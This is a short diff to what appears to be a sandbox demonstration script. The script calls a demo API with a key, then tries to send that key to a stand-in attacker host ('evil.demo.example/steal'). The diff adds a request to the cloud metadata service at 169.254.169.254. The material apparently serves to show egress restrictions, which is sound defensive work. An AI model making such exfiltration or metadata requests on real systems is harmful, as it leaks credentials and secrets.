@@ -20,3 +20,5 @@ print("  [sandbox] calling https://api.demo.example/v1/whoami with that key ..."
 print(f"  [sandbox] the API says: {call('https://api.demo.example/v1/whoami')}")
 print("  [sandbox] now trying to send the same key to https://evil.demo.example/steal ...")
 print(f"  [sandbox] result: {call('https://evil.demo.example/steal')}")
+print("  [sandbox] and reaching the cloud metadata service http://169.254.169.254/ ...")
+print(f"  [sandbox] result: {call('http://169.254.169.254/latest/meta-data/')}")
